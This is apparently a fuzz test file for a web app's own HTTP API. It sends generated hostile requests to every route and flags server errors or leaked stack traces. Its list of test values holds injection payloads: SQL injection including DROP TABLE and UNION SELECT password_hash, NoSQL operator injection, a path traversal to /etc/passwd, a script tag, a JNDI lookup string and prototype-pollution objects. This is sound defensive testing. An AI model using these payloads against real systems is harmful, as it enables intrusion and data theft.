// Property tests of the HTTP API: requests generated from each route's own zod schemas, with
// every field (and the whole body, params and query) replaced by hostile values.
import fc from 'fast-check';
import request from 'supertest';
import { z } from 'zod';
import { apiRoutes } from '../../../src/http/app.ts';
import { createLogger } from '../../../src/logger.ts';
import type { AnyRoute } from '../../../src/http/api/route.ts';
import { createWorld, type Agent, type World } from '../../integration/api/world.ts';

/** Values that have broken other services: operator injection, SQL, path tricks, prototype keys, odd numbers and text. */
const NASTY: unknown[] = [
  { $gt: '' },
  { $ne: null },
  { $where: 'sleep(1000)' },
  { $regex: '.*' },
  { $in: ['a'] },
  "' OR '1'='1",
  "1; DROP TABLE cases;--",
  "') UNION SELECT password_hash FROM users--",
  'wca%',
  '%',
  '_',
  '\\',
  '\u0000',
  '%00',
  '../../../etc/passwd',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${jndi:ldap://example.org/a}',
  '__proto__',
  'constructor',
  { __proto__: { admin: true } },
  JSON.parse('{"__proto__": {"role": "admin"}}'),
  { constructor: { prototype: { polluted: true } } },
  '2024-02-30',
  '9999-12-31',
  '0000-00-00',
  '-1',
  '1e309',
  'NaN',
  'Infinity',
  -1,
  0,
  2 ** 53,
  -(2 ** 63),
  1.5,
  true,
  null,
  [],
  {},
  [null],
  'x'.repeat(10_000),
  '🎓'.repeat(500),
  '\uD800',
  'A331400112001',
  'a'.repeat(36),
  '00000000-0000-0000-0000-000000000000',
];

const nasty = fc.constantFrom(...NASTY);
const hostile: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: nasty },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.array(nasty, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('$gt', '$ne', '__proto__', 'constructor', 'rows', 'type', 'id'), nasty, { maxKeys: 3 }) },
);
/** A URL cannot carry a lone surrogate (encodeURIComponent throws), so it becomes U+FFFD as a browser would send it. */
const wellFormed = (text: string) => text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');

/** Text for a URL segment or query value: nasty strings, JSON of nasty values, or random text. */
const hostileText: fc.Arbitrary<string> = fc
  .oneof(
    nasty.map((value) => (typeof value === 'string' ? value : (JSON.stringify(value) ?? 'null'))),
    fc.string({ unit: 'grapheme', maxLength: 80 }),
    fc.string({ unit: 'binary', maxLength: 40 }),
  )
  .map(wellFormed);

/** The field names a schema declares, from its JSON Schema (input side, before transforms). */
function fieldsOf(schema: z.ZodType | undefined): string[] {
  if (!schema) return [];
  try {
    const json = z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as { properties?: Record<string, unknown>; oneOf?: { properties?: Record<string, unknown> }[]; anyOf?: { properties?: Record<string, unknown> }[] };
    const variants = [json, ...(json.oneOf ?? []), ...(json.anyOf ?? [])];
    return [...new Set(variants.flatMap((v) => Object.keys(v.properties ?? {})))];
  } catch {
    return [];
  }
}

/** One example of a valid body where the schema can give one: the shape hostile fields are put into. */
function objectOf(fields: string[]): fc.Arbitrary<Record<string, unknown>> {
  if (fields.length === 0) return fc.dictionary(fc.string({ maxLength: 10 }), hostile, { maxKeys: 4 });
  return fc.record(Object.fromEntries(fields.map((field) => [field, hostile])), { requiredKeys: [] });
}

export interface FuzzRequest {
  route: AnyRoute;
  path: string;
  query: Record<string, string | string[]>;
  /** A JSON value, or a raw string sent as application/json (malformed JSON, deep nesting). */
  body: { json: unknown } | { raw: string };
  signedIn: boolean;
  csrf: boolean;
}

const RAW_BODIES = ['{', '{"a":', 'nul', '[' .repeat(5000) + ']'.repeat(5000), '{"a":1,"a":2}', '\u0000', '"just a string"', '[1,2,3]', 'x'.repeat(1000)];

function requestFor(route: AnyRoute, knownIds: string[]): fc.Arbitrary<FuzzRequest> {
  const params = route.path.match(/:([A-Za-z_]+)/g)?.map((p) => p.slice(1)) ?? [];
  // Real ids half the time, so hostile bodies and queries reach the handlers behind the lookups.
  const param = fc.oneof(hostileText, fc.constantFrom(...knownIds));
  const pathArb = fc.tuple(...params.map(() => param)).map((values) =>
    params.reduce((path, name, i) => path.replace(`:${name}`, encodeURIComponent(values[i] ?? '') || '%20'), route.path),
  );
  const queryFields = fieldsOf(route.query);
  const queryArb = fc.dictionary(
    fc.oneof(queryFields.length > 0 ? fc.constantFrom(...queryFields) : fc.constant('q'), fc.constantFrom('school[$gt]', 'page[]', '__proto__', 'constructor[prototype][x]')),
    fc.oneof(hostileText, fc.array(hostileText, { minLength: 2, maxLength: 3 })),
    { maxKeys: 4 },
  );
  const bodyArb = fc.oneof(
    { weight: 4, arbitrary: objectOf(fieldsOf(route.body)).map((json) => ({ json })) },
    { weight: 2, arbitrary: hostile.map((json) => ({ json })) },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_BODIES).map((raw) => ({ raw })) },
  );
  return fc.record({
    route: fc.constant(route),
    path: pathArb,
    query: queryArb,
    body: bodyArb,
    signedIn: fc.integer({ min: 0, max: 9 }).map((n) => n < 8),
    csrf: fc.integer({ min: 0, max: 9 }).map((n) => n < 8),
  });
}

export interface FuzzOutcome {
  requests: number;
  routes: number;
  statuses: Record<string, number>;
  /** Requests answered 5xx, or with something that is not a JSON error: should be none. */
  failures: { method: string; path: string; query: unknown; status: number; body: string }[];
}

/**
 * Sends `runs` generated requests per route to the real app on a real database, signed in as
 * the admin (who reaches every handler), and records every answer that is not a clean 4xx/2xx.
 */
export async function fuzzApi(runsPerRoute: number, seed?: number): Promise<FuzzOutcome> {
  const world: World = await createWorld();
  try {
    const admin: Agent = await world.login('admin');
    const logger = createLogger('silent');
    // The registry itself, so a route added tomorrow is fuzzed too; logout would end the session.
    const routes = apiRoutes({ store: world.db.store, logger, worker: null, cases: null as never, clock: world.clock }).filter((r) => r.path !== '/api/auth/logout');
    const knownIds = [...Object.values(world.caseIds), 's1', 's2', 's3', 'A331400112001', 'west-coventry', `${world.caseIds.s1}:ref`];
    const outcome: FuzzOutcome = { requests: 0, routes: routes.length, statuses: {}, failures: [] };
    for (const route of routes) {
      await fc.assert(
        fc.asyncProperty(requestFor(route, knownIds), async (req) => {
          let call = request(world.app)[route.method](req.path).query(req.query);
          if (req.signedIn) call = call.set('cookie', admin.cookie);
          if (req.csrf) call = call.set('x-csrf-token', admin.csrf);
          if (route.method === 'post') {
            call = call.set('content-type', 'application/json');
            call = 'raw' in req.body ? call.send(req.body.raw) : call.send(JSON.stringify(req.body.json) ?? 'null');
          }
          const res = await call;
          outcome.requests += 1;
          outcome.statuses[res.status] = (outcome.statuses[res.status] ?? 0) + 1;
          // 431/414: Node's HTTP parser refuses an oversized URL before the app sees it, with no body.
          const refusedByNode = res.status === 431 || res.status === 414;
          const jsonError = res.type === 'application/json' && typeof (res.body as { error?: { code?: unknown } } | undefined)?.error?.code === 'string';
          const clean = res.status < 500 && (res.status < 400 || jsonError || refusedByNode) && !/\bat .+\.ts:\d+/.test(res.text);
          if (!clean) outcome.failures.push({ method: route.method, path: req.path.slice(0, 200), query: req.query, status: res.status, body: res.text.slice(0, 300) });
          return clean;
        }),
        { numRuns: runsPerRoute, seed, endOnFailure: true },
      ).catch((error: unknown) => {
        // A failing request is already in failures; anything else is the generator's own fault.
        if (!String(error).includes('Property failed')) outcome.failures.push({ method: route.method, path: route.path, query: {}, status: 0, body: String(error).slice(0, 500) });
      });
    }
    return outcome;
  } finally {
    await world.close();
  }
}
